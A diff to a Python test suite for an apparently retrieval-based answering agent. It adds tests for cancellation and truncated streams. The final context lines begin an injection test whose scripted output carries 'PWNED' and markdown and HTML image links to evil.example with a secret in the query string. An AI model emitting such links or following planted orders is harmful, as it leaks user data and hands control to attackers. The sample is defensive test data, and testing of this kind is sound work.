@@ -125,6 +125,28 @@ def test_a_cancel_before_the_first_token_ends_at_once():
     assert (answer.text, answer.interrupted) == ("", "stopped")
 
 
+def test_a_cancel_while_the_question_is_condensed_breaks_it_off():
+    chat, cancel = scripted("Its diameter is 3,474 kilometres [1]."), threading.Event()
+    agent = make_agent(chat)
+    first = agent.ask(MOON_QUESTION)
+    chat.script.append(["slow " * 3])
+    chat.pause = 0.3
+    stopped = []
+    object.__setattr__(agent.model, "abort", stopped.append)
+    threading.Timer(0.1, cancel.set).start()
+    answer = agent.ask("And its mass?", history=[first], cancel=cancel)
+    assert (answer.text, answer.interrupted) == ("", "stopped")
+    assert stopped[0] is chat
+
+
+def test_a_stream_that_ends_without_saying_so_is_not_taken_for_whole():
+    agent = make_agent(scripted("Its diameter"))
+    object.__setattr__(agent.model, "says_when_done", True)
+    answer = agent.ask(MOON_QUESTION)
+    assert "without saying that it was done" in answer.interrupted
+    assert answer.text == "Its diameter"
+
+
 def test_planted_orders_change_nothing_of_the_prompt_and_leak_nothing():
     chat = scripted(
         "PWNED [99] ![x](http://evil.example/?q=secret) <img src=http://evil.example> The warranty lasts 24 months [1]."
